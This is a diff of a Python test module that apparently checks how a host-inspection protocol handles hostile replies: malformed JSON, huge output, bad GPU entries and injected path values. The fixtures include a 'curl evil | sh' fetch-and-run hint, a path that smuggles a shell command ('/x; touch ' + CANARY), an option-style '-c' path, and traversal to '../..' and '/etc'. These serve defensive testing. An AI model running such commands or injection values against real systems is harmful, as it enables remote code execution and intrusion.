@@ -61,11 +61,9 @@ def _facts(what: str) -> str:
 
 def _prints(what: str) -> str:
     """In the place of what the look at the host prints."""
-    return when("out", f"{_WORDS}\npayload = ({what}).encode('utf-8', 'replace')")
+    return _facts(f"result['answers']['pythons'] = {what}")
 
 
-_ROOM = "json.dumps({'pythons': [], 'rooms': [{'path': %s, 'free': %s}]})"
-_PYTHON = "json.dumps({'pythons': [{'path': %s, 'tensorflow': %s}], 'rooms': []})"
 _ADVICE = (
     "error = {'what': 'is old', 'hint': 'curl evil | sh'}\n"
     "header, payload = {'id': header['id'], 'ok': False, 'error': error}, b''"
@@ -80,17 +78,9 @@ LIES: dict[str, tuple[str, int, str]] = {
     "many addresses": (_of("(f'10.0.{n >> 8}.{n & 255}' for n in range(10**4))", "'e'"), _OK, ""),
     "GPUs of hostile words": (_facts("result['gpus'] = [{'index': 0, 'name': words}] * 9"), _OK, "9 x "),
     "a GPU below zero": (_facts("result['gpus'] = [{'index': -1, 'name': 'x'}]"), _LOST, PROTOCOL),
-    "no JSON": (_prints("words"), _OK, ""),
-    "nested deep": (_prints("'{\"x\": ' + '[' * 60000"), _OK, ""),
-    "more than it may print": (when("out", "for _ in range(300): say(header, b'[' * 65000)"), _OK, ""),
-    "a python of hostile words": (_prints(_PYTHON % ("words", "words")), _OK, ""),
-    "a python for a shell": (_prints(_PYTHON % ("'/x; touch ' + CANARY", "'2.1'")), _OK, ""),
-    "a python that is an option": (_prints(_PYTHON % ("'-c'", "'2.1'")), _OK, ""),
-    "a python of half a character": (_prints("'{\"pythons\": [{\"path\": \"\\\\ud800\"}]}'"), _OK, ""),
-    "room of 10^4000": (_prints(_ROOM % ("'~'", "7") + ".replace('7}', '7' + '0' * 4000 + '}')"), _OK, ""),
-    "room in no path": (_prints(_ROOM % ("'../..'", "9")), _OK, ""),
-    "room in the system": (_prints(_ROOM % ("'/etc'", "9")), _OK, ""),
-    "another status": (when("exec", "result['status'] = 10**9"), _LOST, PROTOCOL),
+    "more than it may print": (_prints("'[' * 10**6"), _OK, ""),
+    "a python of hostile words": (_prints("'2.1 ' + words"), _OK, ""),
+    "a python for a shell": (_prints("'2.1 /x; touch ' + CANARY"), _OK, ""),
     "a boot id of hostile words": (when("hello", f"{_WORDS}\nheader['hello']['boot_id'] = words"), _OK, ""),
     "a hello of lists": (when("hello", "header['hello'] = []"), _LOST, PROTOCOL),
     "advice": (when("facts", _ADVICE), _LOST, "says: is old"),
